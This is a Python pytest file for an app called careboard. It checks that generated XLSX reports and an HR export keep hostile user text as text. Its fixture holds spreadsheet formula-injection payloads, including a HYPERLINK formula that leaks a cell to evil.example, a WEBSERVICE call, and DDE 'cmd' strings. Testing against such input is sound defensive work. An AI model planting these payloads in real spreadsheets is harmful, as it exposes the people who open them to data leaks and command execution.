"""Every XLSX the app writes stores what people wrote as text: the weekly and monthly reports and the HR
export are made with hostile text in every field a person can write (formulas, OWASP's CSV-injection
prefixes, an error code), read back with openpyxl, and no cell is a formula and every text reads back as
entered."""
from __future__ import annotations

import io
import re
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from careboard.models import ChecklistArea, ChecklistRun, Role
from careboard.services import board, kpi, reports, review, settings, workbooks
from careboard.services.kpi_templates import default_template
from tests.factories import at, make_card

WEEK, MONTH = "2026-W47", "2026-11"
HOSTILE = {
    "problems": '=HYPERLINK("http://evil.example/?leak="&D3,"详情")',
    "callback title": "+cmd|' /C calc'!A0",
    "sales1": "-2+3+cmd|' /C calc'!A0",
    "sales2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "supervisor": "\t=1+1",
    "director": "#N/A",
    "action title": "=1+1",
    "area": "\r\n=2+2",
    "metric": '=WEBSERVICE("http://evil.example/")',
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def hostile(session, people):
    """Hostile text in every field a person writes that a workbook shows."""
    s = settings.load(session)
    for key in ("sales1", "sales2", "supervisor", "director"):
        people[key].display_name = HOSTILE[key]
    callback = make_card(session, assignee=people["sales2"], kind="callback", title=HOSTILE["callback title"],
                         due_at=at("2026-11-18T23:59"))
    board.complete_card(session, callback, actor=people["sales2"], seen_version=callback.version, note="已回访")
    callback.completed_at = at("2026-11-18T15:00")
    callback.callback_result, callback.satisfaction, callback.problems = "reached", 6, HOSTILE["problems"]
    area = ChecklistArea(name=HOSTILE["area"], position=99, responsible_role=Role.DELIVERY.value,
                         inspector_role=Role.SALES_CARE.value)
    session.add(area)
    session.flush()
    session.add(ChecklistRun(area_id=area.id, area_name=area.name, day=date(2026, 11, 17)))   # checked that week
    review.create_action(session, actor=people["supervisor"], week=WEEK, title=HOSTILE["action title"],
                         owner=people["sales1"], due_at=at("2026-11-27T18:00"))
    template = default_template(Role.SALES_CARE.value)
    template["metrics"][0]["name"] = HOSTILE["metric"]
    kpi.save_template(session, actor=people["director"], role=Role.SALES_CARE.value, data=template,
                      seen_version=None)
    session.commit()
    return s


def cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_text_stays_text(data: bytes, expected: list[str]) -> None:
    found = cells(data)
    assert found
    assert [c.coordinate for c in found if c.data_type == "f"] == []          # the app writes no formula
    assert [c.coordinate for c in found if c.data_type == "e"] == []          # nor an error
    texts = [c.value for c in found if isinstance(c.value, str)]
    for text in expected:
        text = text.replace("\r\n", "\n")                            # XML's line ends, as Excel reads them too
        assert any(text in value for value in texts), f"{text!r} not read back as entered"
    for cell in found:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate   # Excel keeps it text on edit


def test_the_weekly_report_keeps_hostile_text_as_text(session, people, hostile):
    f = reports.weekly_figures(session, WEEK, s=hostile, now=at("2026-11-23T08:00"))
    assert f["callbacks"]["problems"][0]["problems"] == HOSTILE["problems"]
    assert_text_stays_text(reports.workbook("weekly", WEEK, f), [
        HOSTILE[key] for key in ("problems", "callback title", "sales1", "sales2", "supervisor", "director",
                                 "action title", "area")])


def test_the_monthly_report_keeps_hostile_text_as_text(session, people, hostile):
    f = reports.monthly_figures(session, MONTH, s=hostile, now=at("2026-12-01T08:00"))
    assert_text_stays_text(reports.workbook("monthly", MONTH, f),
                           [HOSTILE[key] for key in ("sales1", "sales2", "supervisor", "director")])


def test_the_reports_kept_by_the_tick_keep_hostile_text_as_text(session, people, hostile):
    made = reports.ensure_due_reports(session, now=at("2026-12-01T07:00"), s=hostile)
    assert {r.kind for r in made} == {"weekly", "monthly"}
    for report in made:
        assert_text_stays_text(report.xlsx, [HOSTILE["sales2"]])


def test_the_hr_export_keeps_hostile_text_as_text(client, auth, session, people, hostile):
    auth.login("supervisor")
    response = client.get(f"/scorecard/months/{MONTH}/export.xlsx")
    assert response.status_code == 200
    assert_text_stays_text(response.data, [HOSTILE[key] for key in ("sales1", "sales2", "supervisor", "director",
                                                                     "metric")])


def test_the_hr_export_is_made_by_the_reports_service_from_plain_values(session, people, hostile):
    """The view only sends the file: the workbook comes from reports.scorecard_workbook (session, month)."""
    data = reports.scorecard_workbook(session, MONTH, s=hostile)
    assert_text_stays_text(data, [HOSTILE[key] for key in ("sales1", "sales2", "supervisor", "director", "metric")])
    book = load_workbook(io.BytesIO(data))
    ranking = [[c.value for c in row] for row in book.worksheets[0].iter_rows()]
    assert ranking[0][:4] == ["排名", "姓名", "账号", "岗位"]                          # the store's language
    assert {row[2] for row in ranking[1:]} >= {"sales1", "sales2"}


def test_text_that_xml_cannot_hold_is_written_and_marked():
    book = workbooks.Book()
    sheet = book.sheet("Sheet", ["Name"])
    sheet.append(["a\x07b\x00c", "-1", 42, 0.5, workbooks.percent(0.25), None, True, "普通文字", "#DIV/0!",
                  "\r=1\r\n2"])
    [row] = list(load_workbook(io.BytesIO(book.save())).worksheets[0].iter_rows(min_row=2))
    assert [c.value for c in row] == ["a\ufffdb\ufffdc", "-1", 42, 0.5, 0.25, None, True, "普通文字", "#DIV/0!",
                                      "\n=1\n2"]
    assert [c.data_type for c in row] == ["s", "s", "n", "n", "n", "n", "b", "s", "s", "s"]
    assert row[1].quotePrefix and row[9].quotePrefix and not row[7].quotePrefix
    assert row[4].number_format == "0.0%"


def test_every_workbook_the_app_writes_is_made_by_the_one_helper():
    """openpyxl is used to write only in services/workbooks.py (the customer import only reads)."""
    package = Path(__file__).parent.parent / "careboard"
    writers = [str(path.relative_to(package)) for path in package.rglob("*.py")
               if re.search(r"\bWorkbook\(|create_sheet\(|WriteOnlyCell", path.read_text(encoding="utf-8"))]
    assert writers == ["services/workbooks.py"]
